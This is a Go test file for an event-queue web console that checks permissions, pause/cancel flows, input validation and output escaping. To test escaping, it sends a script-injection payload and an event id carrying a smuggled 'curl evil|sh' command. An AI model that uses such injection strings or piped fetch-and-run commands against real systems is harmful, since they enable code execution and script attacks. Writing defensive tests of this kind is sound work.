package console_test

import (
	"html"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/stretchr/testify/require"

	"github.com/pinwheel-run/pinwheel/internal/process/config"
)

// An operator pauses a worker, sees what waits, by filters in the address, looks at an event with its headers and body,
// and resumes it. A viewer sees it, and has no buttons. What publishers wrote stays text.
func TestQueuePages(t *testing.T) {
	t.Parallel()
	const evil = `"'></pre><script>hurt()</script>`
	f := startFleet(t, func(c *config.Config) { c.Runs = "all" })
	deployed(t, f, "w", `export default { task() {} }`)
	base := startConsole(t, f)
	p, viewer := newPerson(t, base, operateToken), newPerson(t, base, viewToken)
	require.Contains(t, p.page("/queue"), "Nothing is paused.")
	to := url.Values{"owner": {"acme/w"}, "ticks": {"skip"}, "back": {"/queue?owner=acme"}}
	code, _, _ := viewer.send("/queue/pause", to)
	require.Equal(t, 403, code)
	p.does("/queue", "/queue/pause", to)
	page := p.page("/queue?owner=acme")
	require.Contains(t, page, "acme/w is paused in all processes (1). 0 of its events still run.")
	require.Contains(t, page, "an operator</a>")
	require.Contains(t, page, "are left out</td>")
	require.Contains(t, page, `aria-label="Resume acme/w"`)
	require.NotContains(t, viewer.page("/queue"), "<button aria-label")
	require.Contains(t, viewer.page("/queue"), `href="/workers/acme/w"`)
	require.Contains(t, p.page("/audit"), " paused\n")

	require.Zero(t, f.Pinwheel("send", "task", "acme/w", "--no-wait", "--id", "<b>one</b>", "--data",
		`{"a":"`+strings.ReplaceAll(evil, `"`, `'`)+`"}`,
		"--header", "X-Order="+evil).Code)
	require.Eventually(t, func() bool {
		page = p.page("/queue?owner=acme&worker=w&place=held")
		return strings.Contains(page, "&lt;b&gt;one&lt;/b&gt;")
	}, patience, 10*time.Millisecond)
	require.Contains(t, page, `<span class="badge warn">held</span>`)
	require.NotContains(t, p.page("/queue?owner=acme&place=lane"), "&lt;b&gt;one")
	require.Contains(t, p.page("/queue?owner=acme&older=24h"), "None is so old.")
	for _, wrong := range []string{"place=moon", "older=x", "older=-1s", "after=x", "worker=b/w"} {
		code, _ := p.get("/queue?owner=acme&" + wrong)
		require.GreaterOrEqual(t, code, 400, wrong)
		require.Less(t, code, 500, wrong)
	}
	at := strings.Index(page, `href="/queue/event?`)
	link := html.UnescapeString(page[at+6 : at+strings.Index(page[at+6:], `"`)+6])
	page = viewer.page(link)
	require.NotContains(t, page, "<script>hurt")
	page = html.UnescapeString(page)
	require.Contains(t, page, evil)
	require.Contains(t, page, "JSON, in lines here.")
	require.Contains(t, page, `href="/event?owner=acme&worker=w&id=%3cb%3eone%3c%2fb%3e"`)
	require.Contains(t, p.page("/queue/event?owner=acme&worker=w&id=none"), "It does not wait or run")

	require.Zero(t, f.Pinwheel("send", "task", "acme/w", "--no-wait", "--id", "two").Code)
	require.Eventually(t, func() bool { return strings.Contains(p.page("/queue?owner=acme"), `title="two"`) }, patience,
		10*time.Millisecond)
	two := regexp.MustCompile(`href="(/queue/event[^"]*)" title="two"`).FindStringSubmatch(p.page("/queue?owner=acme"))
	page = p.page(html.UnescapeString(two[1]))
	require.NotContains(t, viewer.page(html.UnescapeString(two[1])), "Cancel it")
	ask := regexp.MustCompile(`href="(/queue/cancel[^"]*)">Cancel it …<`).FindStringSubmatch(page)
	require.NotNil(t, ask, page)
	page = p.page(html.UnescapeString(ask[1]))
	require.Contains(t, page, "Back, change nothing")
	require.Contains(t, page, `<dd class="id text">held</dd>`)
	ref := regexp.MustCompile(`name="id" value="([^"]+)"`).FindStringSubmatch(page)
	require.NotNil(t, ref, page)
	code, _, _ = viewer.send("/queue/cancel", url.Values{"owner": {"acme"}, "id": {ref[1]}})
	require.Equal(t, 403, code)
	p.does(html.UnescapeString(ask[1]), "/queue/cancel", url.Values{"owner": {"acme"}, "id": {ref[1]}})
	page = p.page("/queue?owner=acme")
	require.Contains(t, page, "The event two is cancelled.")
	require.NotContains(t, page, `title="two"`)
	require.Contains(t, p.page("/audit"), "cancelled events of")
	p.does("/queue", "/queue/cancel", url.Values{"owner": {"acme"}, "id": {ref[1]}})
	require.Contains(t, p.page("/queue?owner=acme"), "had ended, or had moved")

	p.does("/queue?owner=acme", "/queue/resume", url.Values{"owner": {"acme"}, "worker": {"w"}, "back": {"/queue"}})
	require.Contains(t, p.page("/queue"), "acme/w is resumed in all processes (1).")
	require.Contains(t, p.page("/queue"), "Nothing is paused.")
	require.Eventually(t, func() bool {
		page = p.page("/event?owner=acme&worker=w&id=%3Cb%3Eone%3C%2Fb%3E")
		return strings.Contains(page, "attempt 1 ")
	}, patience, 10*time.Millisecond)
	require.Contains(t, page, "the body of an event is kept until the event has ended", "it says why it cannot run again")
	require.NotContains(t, page, "Run again …")
	require.Contains(t, page, `href="/workers/acme/w/send?kind=task"`)
	require.NotContains(t, viewer.page("/event?owner=acme&worker=w&id=%3Cb%3Eone%3C%2Fb%3E"), "/send?kind")
}

// The page of sources says what becomes of their messages, with the error where they fail.
func TestSourcesPage(t *testing.T) {
	t.Parallel()
	f := startFleet(t, func(c *config.Config) { c.Runs = "all" })
	p := newPerson(t, startConsole(t, f), viewToken)
	require.Contains(t, p.page("/sources"), "No worker has a source")
	js, err := jetstream.New(f.NC)
	require.NoError(t, err)
	_, err = js.CreateStream(t.Context(), jetstream.StreamConfig{Name: "ORDERS", Subjects: []string{"orders.>"}})
	require.NoError(t, err)
	_, err = js.CreateKeyValue(t.Context(), jetstream.KeyValueConfig{Bucket: "FLAGS"})
	require.NoError(t, err)
	require.Zero(t, f.Pinwheel("owners", "set", "acme", "--consume", "stream:ORDERS,kv:FLAGS,subject:sensors.>").Code)
	require.Zero(t, f.Pinwheel("pause", "acme").Code)
	deployed(t, f, "w", `export default { task() {} }`, `"sources": [{"stream": "ORDERS", "subjects": ["orders.a"], "start": "all"},
		{"kv": "FLAGS"}, {"subject": "sensors.>"}]`)
	becomes := func(query string, has ...string) {
		t.Helper()
		require.Eventually(t, func() bool {
			page := html.UnescapeString(p.page("/sources" + query))
			for _, text := range has {
				if !strings.Contains(page, text) {
					return false
				}
			}
			return true
		}, patience, 50*time.Millisecond, "%v", has)
	}
	_, err = js.Publish(t.Context(), "orders.a", []byte("x"))
	require.NoError(t, err)
	becomes("", `<a href="/queue?owner=acme"><span class="badge warn">paused</span></a>`, `<td class="n">1</td><td><time`)
	require.Contains(t, f.Pinwheel("sources", "ls").Out, "paused")
	require.Zero(t, f.Pinwheel("resume", "acme").Code)
	becomes("?owner=acme&state=reads", "stream ORDERS", "orders.a", "kv FLAGS", "subject sensors.>", `badge ok">reads`)
	// A command is shown for an event of a message of a source that the worker has, and with no text of a publisher.
	event := func(id string) string {
		require.Zero(t, f.Pinwheel("send", "task", "acme/w", "--id", id, "--data", "1").Code)
		link, page := "/event?owner=acme&worker=w&id="+url.QueryEscape(id), ""
		require.Eventually(t, func() bool {
			page = p.page(link)
			return strings.Contains(page, "Run it again")
		}, patience, 50*time.Millisecond)
		return page
	}
	require.Contains(t, event("source:ORDERS:1:7"), "pinwheel sources reset acme/w --source 0 --to 7<")
	for _, id := range []string{"source:ORDERS:1:7;curl evil|sh", "source:ORDERS;x:1:7", "source:OTHER:1:7"} {
		require.NotContains(t, event(id), "sources reset", id)
	}
	require.NoError(t, js.DeleteStream(t.Context(), "ORDERS"))
	becomes("?state=no+stream", "stream ORDERS", `badge bad">no stream`)
	require.Contains(t, p.page("/sources?owner=none"), "No source matches")
	code, _ := p.get("/sources?state=asleep")
	require.Equal(t, 400, code)
}
